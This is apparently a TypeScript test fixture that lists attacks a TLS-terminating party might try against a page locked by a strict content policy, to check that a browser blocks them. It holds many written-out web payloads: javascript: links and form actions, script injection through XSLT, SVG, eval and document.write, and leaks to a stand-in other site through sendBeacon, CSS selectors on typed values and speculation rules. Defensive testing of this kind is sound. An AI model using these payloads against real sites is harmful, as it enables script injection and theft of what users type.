import type { BrowserName } from '../../testing/browser.ts';
import { EVIL, hit, script } from './locked-site.ts';
import type { SiteResponse } from '../../testing/site/answer.ts';

/** What whoever terminates TLS tries on a page that is locked at `strict`. */
export type Attack = {
  readonly body?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly status?: number;
  /** More of the answer to the request for the page, and what a second request for it is answered. */
  readonly hints?: SiteResponse['hints'];
  readonly lines?: SiteResponse['lines'];
  readonly trailers?: SiteResponse['trailers'];
  readonly later?: SiteResponse;
  /** Code of the application itself that the attempt goes through: its hash is named by the evidence. */
  readonly code?: string;
  /** What somebody does on the page, or its code does for them. Such an attack has a page of its own, as does one with headers. */
  readonly act?: string;
  /** It needs a page of its own: it would change what others on the page do. */
  readonly alone?: true;
  /** Further files of the site. */
  readonly files?: Readonly<Record<string, SiteResponse>>;
  /** What it makes the browser ask for where nothing is locked: `/hit?<name>`, of this site or of the other one. */
  readonly asks: readonly string[];
  /** Tried in this browser alone: what the other does without a lock comes at no certain time. */
  readonly only?: BrowserName;
  /** Where it does nothing even without a lock, and why. */
  readonly idle?: Partial<Readonly<Record<BrowserName, string>>>;
};

/** A page with this in its body. */
export const shownPage = (body: string): SiteResponse => ({
  headers: { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' },
  body: `<!doctype html><title>attack</title><body>${body}`,
});
const sent = (type: string, body: string): SiteResponse => ({
  headers: { 'content-type': type, 'cache-control': 'no-store' },
  body,
});
/** Code in the page that its evidence does not name. */
export const RUNS = `<script>${EVIL}</script>`;
const CLICK = 'document.querySelector("a").click()';
const asScript = { '/evil.js': script(EVIL) };
const MADE = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script>${EVIL}</script></body></html></xsl:template></xsl:stylesheet>`;
const PART = `--x\r\ncontent-type: text/html\r\ncontent-security-policy: script-src * 'unsafe-inline'\r\n\r\n<!doctype html>${RUNS}\r\n--x--\r\n`;
const RULES = {
  prefetch: [{ where: { selector_matches: 'form:has(input[value^="typed"]) ~ a' }, eagerness: 'immediate' }],
};
const FIELD = '<form><input value="typed"></form>';
const NO_SPECULATION = { firefox: 'Firefox has no speculation rules' };

/** Code: documents, and ways around the element `script`. */
const CODE: Readonly<Record<string, Attack>> = {
  'a document that a style sheet makes (XSLT)': {
    headers: { 'content-type': 'text/xml' },
    body: '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="/made.xsl"?><page/>',
    files: { '/made.xsl': sent('text/xsl', MADE) },
    asks: ['bad'],
  },
  'parts that replace each other, each with a policy of its own': {
    headers: { 'content-type': 'multipart/x-mixed-replace; boundary=x' },
    body: PART,
    asks: ['bad'],
    idle: { chromium: 'Chromium shows no such document' },
  },
  'a page that is not found': { status: 404, body: RUNS, asks: ['bad'] },
  'a server error': { status: 503, body: RUNS, asks: ['bad'] },
  'a document whose type has to be guessed': { headers: { 'content-type': '' }, body: `<!doctype html>${RUNS}`, asks: ['bad'] },
  'a page that another leads to by itself': {
    headers: { refresh: '0; url=/refreshed' },
    files: { '/refreshed': shownPage(RUNS) },
    asks: ['bad'],
  },
  'a page that a redirect leads to': {
    status: 302,
    headers: { location: '/redirected' },
    files: { '/redirected': shownPage(RUNS) },
    asks: ['bad'],
  },
  'a script in a drawing, inline and from a file': {
    body: `<svg><script>${hit('bad-drawn')}</script><script href="/drawn.js"></script></svg>`,
    files: { '/drawn.js': script(hit('bad-drawn-file')) },
    asks: ['bad-drawn', 'bad-drawn-file'],
  },
  'links and forms to code': {
    body: `<a href="javascript:${EVIL}void 0">x</a>`,
    act: CLICK,
    asks: ['bad'],
  },
  'a link of a drawing whose address an animation sets': {
    body: `<svg><a><animate attributeName="href" values="javascript:${EVIL}void 0"/><text y="9">x</text></a></svg>`,
    act: 'document.querySelector("a").dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }))',
    asks: ['bad'],
  },
  'text that becomes code': {
    code: `setTimeout("${hit('bad-timeout')}");try{eval("${hit('bad-eval')}")}catch{}try{new Function("${hit('bad-function')}")()}catch{}`,
    asks: ['bad-eval', 'bad-function', 'bad-timeout'],
  },
  'a module that is loaded by name': {
    code: `import('/loaded.js').catch(() => null)`,
    files: { '/loaded.js': script(hit('bad-loaded')) },
    asks: ['bad-loaded'],
  },
  'elements that code inserts': {
    code: `const one = document.createElement('script'); one.src = '/inserted.js'; const two = document.createElement('script');
      two.text = "${hit('bad-text')}"; const all = document.createElement('div'); document.body.append(all);
      all.innerHTML = "<img src=x: onerror=fetch('/hit?bad-handler')>"; all.append(one, two)`,
    files: { '/inserted.js': script(hit('bad-inserted')) },
    asks: ['bad-handler', 'bad-inserted', 'bad-text'],
  },
  'a document that code writes': {
    alone: true,
    code: `document.open(); document.write("<script>${hit('bad-written')}</"+"script><script src=/evil.js></"+"script>"); document.close()`,
    files: asScript,
    asks: ['bad', 'bad-written'],
  },
  'a document at an address that code makes': {
    alone: true,
    code: `location.href = URL.createObjectURL(new Blob(["<script>fetch(origin + '/hit?bad-blob')</"+"script>"], { type: 'text/html' }))`,
    asks: ['bad-blob'],
  },
  'an empty frame that code writes into': {
    code: `const frame = document.createElement('iframe'); document.body.append(frame); frame.contentDocument.write("<script>parent.fetch('/hit?bad-frame')</"+"script>"); frame.contentDocument.close()`,
    asks: ['bad-frame'],
  },
  'workers of files': {
    code: `for (const Kind of [Worker, SharedWorker]) try { new Kind('/worker.js') } catch {}`,
    files: { '/worker.js': script(hit('bad-worker')) },
    asks: ['bad-worker'],
  },
  'a worker of its own text that loads more': {
    code: `new Worker(URL.createObjectURL(new Blob(["importScripts(self.origin + '/evil-worker.js')"])))`,
    files: { '/evil-worker.js': script(`fetch(self.origin + '/hit?bad-imported')`) },
    asks: ['bad-imported'],
  },
  'a service worker': {
    code: `navigator.serviceWorker.register('/service.js').then(async (one) => { await new Promise((done) => setTimeout(done, 300)); await one.unregister() }, () => null)`,
    files: { '/service.js': script(hit('bad-service')) },
    asks: ['bad-service'],
  },
  'a worklet': {
    code: `new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('/hit?bad-worklet').catch(() => null)`,
    asks: ['bad-worklet'],
  },
  'compiled code': {
    code: `WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => fetch('/hit?bad-wasm')).catch(() => null)`,
    asks: ['bad-wasm'],
  },
  'a map that gives a named import other code': {
    alone: true,
    body: `<script type="importmap">{"imports":{"one":"/evil.js"}}</script>`,
    code: `import('one').catch(() => null)`,
    files: asScript,
    asks: ['bad'],
  },
};

/** Data: what is typed, shown, or loaded without any code. */
const DATA: Readonly<Record<string, Attack>> = {
  'speculation rules in a header that match what is typed': {
    headers: { 'speculation-rules': '"/rules.json"' },
    body: `${FIELD}<a href="/hit?bad-rules">x</a>`,
    files: { '/rules.json': sent('application/speculationrules+json', JSON.stringify(RULES)) },
    asks: ['bad-rules'],
    idle: NO_SPECULATION,
  },
  'speculation rules in the page': {
    body: `${FIELD}<a href="/hit?bad-rules-inline">x</a><script type="speculationrules">${JSON.stringify(RULES)}</script>`,
    asks: ['bad-rules-inline'],
    idle: NO_SPECULATION,
  },
  'a button with a target of its own': {
    body: '<form method="post"><input name="x" value="typed"><button formaction="/hit?bad-button">x</button></form>',
    act: 'document.forms[0].requestSubmit(document.querySelector("button"))',
    asks: ['bad-button'],
  },
  'a form whose target is code': {
    body: `<form action="javascript:${EVIL}void 0"><input name="x" value="typed"></form>`,
    act: 'document.forms[0].requestSubmit()',
    asks: ['bad'],
  },
  'a picture that loads when something is opened': {
    body: '<details><summary>x</summary><img src="/hit?bad-lazy" loading="lazy" alt=""></details>',
    act: 'document.querySelector("details").open = true',
    asks: ['bad-lazy'],
  },
  'links that load ahead': {
    body: `<link rel="preload" as="image" href="/hit?bad-image"><link rel="preload" as="script" href="/hit?bad-script">
      <link rel="preload" as="font" crossorigin href="/hit?bad-font"><link rel="modulepreload" href="/hit?bad-module">`,
    asks: ['bad-font', 'bad-image', 'bad-module', 'bad-script'],
  },
  'the same in a header': {
    headers: { link: '</hit?bad-image>; rel=preload; as=image, </hit?bad-script>; rel=preload; as=script' },
    asks: ['bad-image', 'bad-script'],
  },
  'attributes from before style sheets, and parts of media': {
    body: `<table background="/hit?bad-table"><tr><td>x</table><input type="image" src="/hit?bad-input" alt="">
      <picture><source srcset="/hit?bad-source"><img src="x:" alt=""></picture>`,
    asks: ['bad-input', 'bad-source', 'bad-table'],
  },
  'parts of another drawing': {
    // Inserted later: a Chromium that refuses such a part never ends loading the page that began with it.
    act: `document.body.innerHTML = '<svg width="9" height="9"><use href="/hit?bad-use#x"/><filter id="f"><feImage href="/hit?bad-filter"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>'`,
    asks: ['bad-filter', 'bad-use'],
  },
  'further properties that fetch': {
    body: `<style>p { shape-outside: url(/hit?bad-shape); float: left } i { filter: url(/hit?bad-effect#x) } u { clip-path: url(/hit?bad-clip#x) }
      b { background: url(/hit?bad-hover) } b:not(:has(~ input[value^="typed"])) { background: none }</style><p>x</p><i>x</i><u>x</u><b>x</b><input value="typed">`,
    asks: ['bad-clip', 'bad-effect', 'bad-hover', 'bad-shape'],
  },
  'a sheet of another site': { body: '<style>@import url(OTHER/hit?bad-import)</style>', asks: ['bad-import'] },
  'a base that turns addresses to another site': {
    alone: true,
    body: '<base href="OTHER/">',
    code: `if (new URL('hit', document.baseURI).origin !== origin) fetch('hit?bad-base', { mode: 'no-cors' }).catch(() => null)`,
    asks: ['bad-base'],
  },
  'named code that is made to send to another site': {
    code: `fetch('OTHER/hit?bad-fetch', { mode: 'no-cors', keepalive: true }).catch(() => null); navigator.sendBeacon('OTHER/hit?bad-beacon', 'typed'); new EventSource('OTHER/hit?bad-events').onerror = (event) => event.target.close()`,
    asks: ['bad-beacon', 'bad-events', 'bad-fetch'],
  },
  'a click that reports to another site': {
    body: '<a href="#x" ping="OTHER/hit?bad-ping">x</a>',
    act: CLICK,
    asks: ['bad-ping'],
    idle: { firefox: 'Firefox sends no such reports unless a user sets it so' },
  },
};

/** Nothing of these works on a locked page. */
export const ATTACKS = { ...CODE, ...DATA };

/** What works all the same, because no policy covers it (docs/LOCKED-PAGES.md, the second table). */
export const OPEN: Readonly<Record<string, Attack>> = {
  'a link that is clicked': { body: '<a href="/hit?open-link">x</a>', act: CLICK, asks: ['open-link'] },
  'a click that reports to the site itself': {
    body: '<a href="#x" ping="/hit?open-ping">x</a>',
    act: CLICK,
    asks: ['open-ping'],
    idle: { firefox: 'Firefox sends no such reports unless a user sets it so' },
  },
  'a page that leads away by itself': { headers: { refresh: '0; url=/hit?open-refresh' }, asks: ['open-refresh'] },
  'loads of fixed addresses, which tell nothing that is typed': {
    body: `<link rel="stylesheet" href="/hit?open-sheet"><style>@import url(/hit?open-import)</style>
      <link rel="preload" as="fetch" crossorigin href="/hit?open-ahead">`,
    asks: ['open-ahead', 'open-import', 'open-sheet'],
  },
};
